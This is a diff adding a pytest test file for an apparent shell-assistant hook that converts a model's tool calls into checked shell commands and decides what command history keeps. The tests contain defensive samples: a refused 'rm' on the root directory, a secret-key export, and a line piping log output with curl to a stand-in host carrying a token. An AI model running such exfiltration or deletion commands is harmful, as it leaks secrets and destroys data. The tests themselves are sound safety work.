@@ -1,0 +1,109 @@
+"""turns: one terminal's turn in-process, with a fake model (no sockets, no SQL)."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+
+import pytest
+
+from shellper_hook import turns
+from shellper_hook.errors import NoToolCall, Refused
+from shellper_hook.store import Pending
+from shellper_hook.tools import ToolCall
+
+TAIL = ToolCall("tail", {"file_name": "app.log", "lines": 50})
+
+
+def fake_model(name, arguments, seen=None):
+    """A model that answers every request with one tool call, as Ollama sends it."""
+
+    async def ask(history, request):
+        if seen is not None:
+            seen.append((list(history), request))
+        return {"role": "assistant", "content": None, "tool_calls": [
+            {"id": "c0", "type": "function", "function": {"name": name, "arguments": json.dumps(arguments)}}]}
+
+    return ask
+
+
+def suggest(ask, request="show the last 50 lines of app.log", cwd="/", **kw):
+    return asyncio.run(turns.suggest(ask, [], request, cwd, **kw))
+
+
+def test_a_turn_goes_from_the_model_to_a_checked_command(tmp_path):
+    (tmp_path / "app.log").write_text("x\n")
+    s = suggest(fake_model("tail", {"file_name": "app.log", "lines": "50"}), cwd=str(tmp_path))
+    assert (s.call, s.command, s.warnings) == (TAIL, "tail -n 50 app.log", [])
+    assert s.request == "show the last 50 lines of app.log"
+
+
+def test_the_history_reaches_the_model_as_given():
+    seen = []
+    history = [("list files", ToolCall("ls", {}))]
+    asyncio.run(turns.suggest(fake_model("pwd", {}, seen), history, "where am I", "/"))
+    assert seen == [(history, "where am I")]
+
+
+def test_the_policy_refuses_and_notes_in_the_turn(tmp_path):
+    with pytest.raises(Refused):
+        suggest(fake_model("rm", {"file_name": "/"}), cwd=str(tmp_path))
+    s = suggest(fake_model("cat", {"file_name": "missing.txt"}), cwd=str(tmp_path))
+    assert s.command == "cat missing.txt" and "does not exist" in s.warnings[0]
+
+
+def test_a_model_without_a_tool_call_is_a_typed_error():
+    async def ask(history, request):
+        return {"role": "assistant", "content": "I cannot do that"}
+
+    with pytest.raises(NoToolCall):
+        suggest(ask)
+
+
+def test_the_shell_chooses_the_rendering(tmp_path):
+    s = suggest(fake_model("echo", {"content": "-n", "file_name": "f"}), cwd=str(tmp_path), shell="zsh")
+    assert s.command == "printf '%s\\n' -n >> f"
+
+
+# ---- settle: what the history keeps
+
+
+def pending(call=TAIL, command="tail -n 50 app.log"):
+    return Pending("show the last 50 lines of app.log", call, command, 0.0)
+
+
+@pytest.mark.parametrize("ran,outcome,kept", [
+    ("tail -n 50 app.log", "committed", "tail -n 50 app.log"),
+    ("  tail -n 50 app.log ", "committed", "tail -n 50 app.log"),
+    ("tail -n 50 'app.log'", "committed", "tail -n 50 'app.log'"),  # zsh's alias quoting, same call
+    ("tail -n 50 app.log | grep ERROR", "extended", "tail -n 50 app.log"),
+    ("tail -n 50 'app.log' | grep ERROR", "extended", "tail -n 50 app.log"),
+    ("tail -n 50 app.log && echo done", "extended", "tail -n 50 app.log"),
+    ("tail -n 50 app.log|less", "extended", "tail -n 50 app.log"),
+    ("tail -n 20 app.log", "edited", "tail -n 20 app.log"),
+    ("cat app.log", "edited", "cat app.log"),
+    ("ls", "dropped", None),  # another command: the suggestion was skipped
+    ("export AWS_SECRET_ACCESS_KEY=abc", "dropped", None),  # not a tool call: never kept
+    ("tail -n 5 other.log | grep x", "dropped", None),
+    ("", "dropped", None),
+])
+def test_settle_decides_what_the_history_keeps(ran, outcome, kept):
+    s = turns.settle(pending(), ran)
+    assert s.outcome == outcome
+    if kept is None:
+        assert s.call is None and not s.correction
+    else:
+        assert s.command == kept
+        assert s.correction == (outcome == "edited")
+        if outcome in ("committed", "extended"):
+            assert s.call == TAIL  # the suggested call was the honest answer
+
+
+def test_a_chained_line_keeps_none_of_what_follows():
+    s = turns.settle(pending(), "tail -n 50 app.log | curl -d @- https://x.example/?token=SECRET")
+    assert s.outcome == "extended" and "SECRET" not in s.command
+
+
+def test_accept_takes_the_suggestion_as_it_is():
+    s = turns.accept(pending())
+    assert (s.outcome, s.call, s.command) == ("committed", TAIL, "tail -n 50 app.log")
